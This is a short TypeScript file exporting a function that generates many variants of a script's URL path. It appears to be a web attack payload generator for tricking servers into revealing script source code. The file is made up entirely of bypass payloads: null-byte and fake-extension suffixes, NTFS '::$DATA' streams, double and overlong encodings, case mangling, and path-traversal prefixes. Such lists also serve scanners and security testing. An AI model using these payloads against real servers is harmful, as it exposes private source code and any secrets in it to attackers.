// The ways in which people ask for the source of a script.

/** Paths of requests, percent-encoded. @param path of the script */
export function sourcePaths(path: string): string[] {
  const [folder, name = ""] = [path.slice(0, path.lastIndexOf("/")), path.split("/").at(-1)];
  const upper = name.toUpperCase();
  const mixed = name.replace(/php$/, "pHp");
  const endings = [
    ...["", "/", "//", "/.", "/..", ".", "..", "...", "%20", "%20%20", "%00", "%00.txt", "%00.jpg"],
    ...[
      "/x.txt",
      "/x.css",
      "%2f",
      "%2fx.css",
      "%5c",
      "%5cx.css",
      "::$DATA",
      "::$data",
      "%3a%3a$DATA",
    ],
    ...[
      ";",
      ";.css",
      ";a=b",
      "%3b.css",
      "?",
      "?x.css",
      "%3f.css",
      "%23.css",
      "%0a",
      "%0d",
      "%09",
      "%e3%80%82",
    ],
    ...["%2e", "%252e", "%2500", ".%20", "%20.", "/%2e", "/%2e%2e/", "~1", "+", "%2520"],
  ];
  const names = [
    name,
    upper,
    mixed,
    name.replace("p", "%70"),
    name.replace(".", "%2e"),
    name.replace(".", "%252e"),
  ];
  const before = [
    ...["/.", "//", "/x/..", "/%2e", "/x/%2e%2e", "/%2e%2e", "/..%2f", "/.%2f", "/x/..%2f"],
    ...["/..%5c", "/%c0%ae%c0%ae", "/%c0%af", "/%252e%252e", "/..;", "/.;"],
  ];
  return [
    ...names.flatMap((each) => endings.map((ending) => `${folder}/${each}${ending}`)),
    ...before.map((each) => `${folder}${each}/${name}`),
  ];
}
